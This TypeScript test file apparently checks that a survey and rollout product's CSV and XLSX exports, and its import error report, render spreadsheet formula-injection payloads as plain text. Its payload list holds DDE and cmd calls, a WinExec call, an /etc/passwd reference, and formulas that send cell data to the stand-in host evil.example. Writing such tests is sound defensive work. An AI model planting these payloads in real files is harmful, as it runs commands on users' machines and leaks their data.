import { parse } from 'csv-parse/sync'
import { unzipSync } from 'fflate'
import { localTenant } from '#infra/local/identifiers.ts'
import { importReport, newestImport, stageImport } from '#bot/roster-imports.ts'
import { aDecision, anActionItem, aPlan, aRisk, aRound, aSite, aSurvey, aWave } from '#tests/support/build.ts'
import { type TestWorld, testWorld } from '#tests/support/world.ts'
import { asker, type AttackDoor, attackDoor, pathOf, type Route } from './attack-door.ts'

/* Text of people that a spreadsheet program would run, into every file that leaves the product. */

const calls = [
  `=1+1`,
  `=cmd|'/C calc'!A0`,
  `=DDE("cmd";"/C calc";"__DdeLink_60_870516294")`,
  `=HYPERLINK("https://evil.example?x="&A1,"Click")`,
  `=WEBSERVICE("https://evil.example/"&A2)`,
  `=IMPORTXML(CONCAT("https://evil.example/?v=",A2),"//a")`,
  `=IMPORTDATA("https://evil.example/")`,
  `=IMAGE("https://evil.example/"&A2)`,
  `=IMPORTRANGE("https://evil.example","A1:Z9")`,
  `=FILTERXML(WEBSERVICE("https://evil.example"),"//x")`,
  `=CALL("kernel32","WinExec","JFJ","calc.exe",1)`,
  `=REGISTER.ID("x","y")`,
  `=RTD("x",,"y")`,
  `=EXEC("calc")`,
  `=SUM(1+9)*cmd|' /C calc'!A0`,
  `=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''`,
  `='file:///etc/passwd'#$passwd.A1`,
  `={1;2}`,
  `==1`,
  `="=1"`,
]
const starts = ['+', '-', '@', '＝', '＋', '－', '＠', '=+', '=-', '=@', '+=', '-+', '@=', '=\t', '= ']
const before = [
  ' ',
  '   ',
  '\t',
  '\n',
  '\r\n',
  '\r',
  '\u00a0',
  '\u2003',
  '\u3000',
  '\ufeff',
  '\u200b',
  '\u200e',
]
const around = [
  `"=1+1`,
  `'=1+1`,
  `''=1+1`,
  `;=1+1`,
  `,=1+1`,
  `x";"=1+1`,
  `x",=1+1`,
  `x\n=1+1`,
  `x\r\n=cmd|' /C calc'!A0`,
]

const formulae = [
  ...calls,
  ...starts.map((start) => `${start}SUM(1,1)`),
  ...before.map((blank) => `${blank}=SUM(2,2)`),
  ...before.slice(0, 6).map((blank) => `${blank}@SUM(3,3)`),
  ...around,
]

let held: TestWorld
let door: AttackDoor
beforeAll(async () => {
  const each = <Row>(make: (text: string, n: number) => Row) => formulae.map(make)
  const survey = aSurvey({
    questions: [
      {
        ...{ id: 'why', kind: 'text', text: formulae[1]!, labels: 'strongly', didNotUse: false, options: [] },
        required: false,
      },
    ],
  })
  const plan = aPlan({
    tenantId: localTenant.tenantId,
    profile: { ...aPlan().profile, name: formulae[0]!, vision: formulae[2]! },
    waves: [aWave({ name: formulae[3]! })],
    sites: each((name, n) => aSite({ id: `site-${n}`, name })),
    risks: each((title, n) => aRisk({ id: `risk-${n}`, title, description: title })),
    decisions: each((text, n) => aDecision({ id: `d-${n}`, title: text, text })),
    actionItems: each((title, n) => anActionItem({ id: `a-${n}`, title, note: title })),
    surveys: [survey],
    rounds: [aRound({ survey, closedAt: '2026-03-10T09:00:00.000Z' })],
  })
  held = await testWorld({ plans: [plan] })
  const { world } = held
  const people = each((name, n) => ({
    ...{ id: `p-${n}`, name, email: name, department: name, siteId: 'site-0', waveId: null, zone: 'UTC' },
    ...({ status: 'invited', enabledOn: null, activatedOn: null, devicesRetired: 0 } as const),
  }))
  await world.roster.put('plan-1', people)
  const ids = people.map(({ id }) => id)
  const closesAt = new Date('2026-03-20T09:00:00.000Z')
  const { id: roundId } = plan.rounds[0]!
  await world.answers.invite({ planId: 'plan-1', roundId, closesAt, minimumGroup: 5 }, ids)
  const now = new Date('2026-03-05T09:00:00.000Z')
  for (const [n, personId] of ids.entries())
    await world.answers
      .of('plan-1')
      .submit({ roundId, personId, values: {}, comments: { why: formulae[n]! }, now })
  await world.answers.of('plan-1').close(roundId, now)
  await world.deliveries.schedule(
    ids.map((personId, n) => ({
      ...({ planId: 'plan-1', personId, card: 'survey', whenUncertain: 'hold', about: {} } as const),
      ...{ campaign: formulae[n]!, occurrence: formulae[n]!, dueAt: now, expiresAt: null },
    })),
  )
  door = await attackDoor(world)
}, 120_000)
afterAll(async () => {
  await door.close()
  await held.close()
}, 120_000)

/** Written here anew, and not taken from what is tested: blanks and unseen signs, then what begins a formula. */
const runs =
  /^[\s\u0000-\u001f\u007f-\u00a0\u00ad\u200b-\u200f\u2028-\u202e\u2060\ufeff]*[=+\-@＝＋－＠]|^[\t\r\n]/u
const isFigure = (cell: string) => /^-?\d+(\.\d+)?(e[+-]\d+)?$/i.test(cell)

/** Cells that a program would run, in a CSV file. */
function harmsOfCsv(bytes: Uint8Array): { harms: string[]; texts: string[] } {
  const rows = parse(Buffer.from(bytes), { bom: true, relax_column_count: true })
  const cells = rows.flat()
  return {
    harms: cells.filter((cell) => runs.test(cell) && !isFigure(cell)),
    texts: cells.map((cell) => cell.replace(/^'/, '')),
  }
}

/** Parts of a workbook that are more than text and figures. */
function harmsOfWorkbook(parts: Readonly<Record<string, Uint8Array>>): { harms: string[]; texts: string[] } {
  const xml = Object.entries(parts).map(([name, part]) => [name, new TextDecoder().decode(part)] as const)
  const active = /<f[ >/]|<hyperlink|<ddeLink|<oleObject|t="str"|<definedName[ >]/i
  const harms = xml.filter(([name, text]) => active.test(text) || /external|vba|macro|embed/i.test(name))
  return { harms: harms.map(([name]) => name), texts: xml.map(([, text]) => text) }
}

async function filesOf(
  route: Route,
  query = '',
): Promise<{ harms: string[]; texts: string[]; type: string } | null> {
  const parts = { planId: 'plan-1', roundId: 'round-1', kind: 'people' }
  const answer = await fetch(door.root + pathOf(route, parts) + query, { headers: { [asker]: 'lena admin' } })
  const type = answer.headers.get('content-type') ?? ''
  if (!answer.ok || !/csv|spreadsheet|zip/.test(type)) {
    await answer.body?.cancel()
    return null
  }
  const bytes = new Uint8Array(await answer.arrayBuffer())
  if (type.includes('csv')) return { ...harmsOfCsv(bytes), type }
  const unpacked = unzipSync(bytes)
  if (type.includes('spreadsheet')) return { ...harmsOfWorkbook(unpacked), type }
  const inside = Object.values(unpacked).map(harmsOfCsv)
  return { harms: inside.flatMap(({ harms }) => harms), texts: inside.flatMap(({ texts }) => texts), type }
}

test(`${formulae.length} formulae are text in every table that can be downloaded`, async () => {
  expect(formulae.length).toBeGreaterThanOrEqual(50)
  const found: Record<string, number> = {}
  for (const route of door.routes.filter(
    ({ method, path }) => method === 'GET' && path.startsWith('/api/'),
  )) {
    const file = await filesOf(route)
    if (!file) continue
    expect([route.path, file.harms]).toEqual([route.path, []])
    found[route.path] = formulae.filter((text) => {
      const plain = text.trim().slice(0, 12)
      const escaped = plain
        .replaceAll('&', '&amp;')
        .replaceAll('<', '&lt;')
        .replaceAll('"', '&quot;')
        .replaceAll('\r', '_x000D_')
      return file.texts.some((each) => each.includes(plain) || each.includes(escaped))
    }).length
  }
  // Each file really carried them, or it would prove nothing.
  expect(found).toMatchObject({
    '/api/plans/:planId/export.xlsx': formulae.length,
    '/api/plans/:planId/export.csv': formulae.length,
    '/api/plans/:planId/deliveries/file': formulae.length,
    '/api/plans/:planId/rounds/:roundId/results.xlsx': formulae.length,
    '/api/plans/:planId/rounds/:roundId/results.csv': formulae.length,
    '/api/admin/audit': expect.any(Number) as number,
  })
}, 120_000)

test('the list of what was wrong with a file gives its formulae back as text', async () => {
  const asked = { planId: 'plan-1', by: 'lena', kind: 'people' as const }
  const quoted = formulae.map(
    (text, n) => `"${text.replaceAll('"', '""')}","${text.replaceAll('"', '""')}",x${n}`,
  )
  const bytes = new TextEncoder().encode(['Object Id,Display name,Time zone', ...quoted].join('\r\n'))
  const { work } = await stageImport(held.world, asked, { bytes, fileName: '=evil.csv' })
  await work
  const page = (await newestImport(held.world, asked))!
  const { bytes: report } = await importReport(held.world, {
    planId: 'plan-1',
    by: 'lena',
    importId: page.id,
  })
  const { harms, texts } = harmsOfCsv(report)
  expect(harms).toEqual([])
  expect(
    formulae.filter((text) => texts.some((each) => each.includes(text.trim().slice(0, 8)))).length,
  ).toBeGreaterThan(50)
})
